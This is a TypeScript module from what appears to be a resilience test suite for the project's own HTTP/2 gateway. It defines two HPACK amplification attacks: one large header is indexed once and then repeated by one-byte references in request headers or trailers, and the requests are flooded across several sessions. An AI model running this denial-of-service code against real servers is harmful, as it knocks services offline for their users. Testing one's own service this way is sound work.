import { block, text } from "../../gateway/src/testing/frames.ts";
import { END_HEADERS, END_STREAM, frame, HEADERS } from "../load/http2-frames.ts";
import type { Attack } from "./attack.ts";
import { floodBySession } from "./raw-session.ts";

const SESSIONS = 8;
const AT_ONCE = 64;

/** A header that fills the HPACK table, as a literal with incremental indexing (RFC 7541 section 6.2.1). */
const LARGE = Buffer.concat([Buffer.of(0x40), text("x-a"), text("v".repeat(3900))]);
/** A one-byte reference to the newest entry of the table (RFC 7541 section 6.1). */
const REPEATED = Buffer.of(0x80 | 62);
/** The default maximum number of repetitions in a request's headers. */
const IN_HEADERS = 4;
/** Node's maximum number of repetitions. */
const IN_TRAILERS = 15;

const HEAD = block([
  [":method", "POST"],
  [":scheme", "http"],
  [":path", "/grpc.health.v1.Health/Check"],
  [":authority", "a"],
  ["content-type", "application/json"],
]);

const repeated = (count: number, isFirst: boolean) =>
  Buffer.concat([isFirst ? LARGE : REPEATED, ...Array<Buffer>(count - 1).fill(REPEATED)]);

function inHeaders(stream: number, isFirst: boolean): Buffer {
  return frame(
    HEADERS,
    END_HEADERS | END_STREAM,
    stream,
    Buffer.concat([HEAD, repeated(IN_HEADERS, isFirst)]),
  );
}

function inTrailers(stream: number, isFirst: boolean): Buffer {
  return Buffer.concat([
    frame(HEADERS, END_HEADERS, stream, HEAD),
    frame(HEADERS, END_HEADERS | END_STREAM, stream, repeated(IN_TRAILERS, isFirst)),
  ]);
}

function hpack(part: string, request: typeof inHeaders): Attack {
  return {
    name: `hpack-${part}`,
    does: `${part} of HTTP/2 that are large only once HPACK unpacks them`,
    serves: "posts",
    others: "a page of posts",
    slower: 25,
    begin: (port, did) => {
      for (let i = 0; i < SESSIONS; i++) floodBySession(port, { request, atOnce: AT_ONCE }, did);
    },
  };
}

export const hpackHeaders = hpack("headers", inHeaders);
export const hpackTrailers = hpack("trailers", inTrailers);
